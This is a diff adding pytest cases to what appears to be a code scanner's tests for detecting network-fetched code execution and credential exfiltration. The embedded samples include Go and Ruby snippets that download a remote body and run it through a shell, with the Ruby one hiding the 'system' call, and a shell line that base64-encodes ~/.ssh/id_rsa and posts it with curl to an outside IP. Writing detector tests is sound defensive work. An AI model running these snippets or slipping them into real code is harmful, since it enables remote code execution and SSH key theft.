@@ -139,3 +139,30 @@ def test_comparison_gate_is_a_superset_of_the_secret_names():
             assert compare_possible(test.encode()), test
     assert not compare_possible(b'if (count == 3) { total = 1; }')  # no secret-like name
     assert not compare_possible(b'String password = read();')  # no equality test
+
+
+@pytest.mark.parametrize("path, code, rule", [
+    # Go: a method of this file called on its receiver (a.fetch()) returns the downloaded body
+    ("a.go", 'package m\nimport ("io"; "net/http"; "os/exec")\ntype A struct{ u string }\n'
+             'func (a *A) fetch() string {\n    r, _ := http.Get(a.u)\n    b, _ := io.ReadAll(r.Body)\n'
+             '    return string(b)\n}\nfunc (a *A) Run() {\n    s := a.fetch()\n'
+             '    exec.Command("sh", "-c", s).Run()\n}\n', "exec-of-network-response"),
+    # Ruby: a bare name that is a method of this file is a call of it (`script = body`)
+    ("a.rb", "require 'net/http'\nclass U\n  def body\n    Net::HTTP.get(URI('http://h/x'))\n  end\n"
+             "  def run\n    script = body\n    Kernel.send(@m, 'sh', '-c', script)\n  end\n"
+             "  def initialize\n    @m = 'sys' + 'tem'\n  end\nend\n", "exec-of-network-response"),
+    # shell: the path a variable was bound to names a key even when $HOME is not known
+    ("a.sh", 'k=$HOME/.ssh/id_rsa\nd=$(cat "$k" | base64 -w0)\ncurl -s -d "key=$d" http://203.0.113.5/u\n',
+     "credential-file-sent-over-network"),
+])
+def test_flows_through_methods_of_the_file_and_bound_paths(path, code, rule):
+    assert [f for f in findings(path, code) if f.rule_id == rule and f.severity in ("high", "critical")]
+
+
+@pytest.mark.parametrize("path, code, rule", [
+    ("a.rb", "class U\n  def body\n    'ls -l'\n  end\n  def run\n    script = body\n    system(script)\n  end\nend\n",
+     "exec-of-network-response"),
+    ("a.sh", 'k=$HOME/.ssh/known_hosts\ncp "$k" /mnt/backup/\n', "credential-file-sent-over-network"),
+])
+def test_constant_method_results_and_local_copies_stay_quiet(path, code, rule):
+    assert not [f for f in findings(path, code) if f.rule_id == rule]
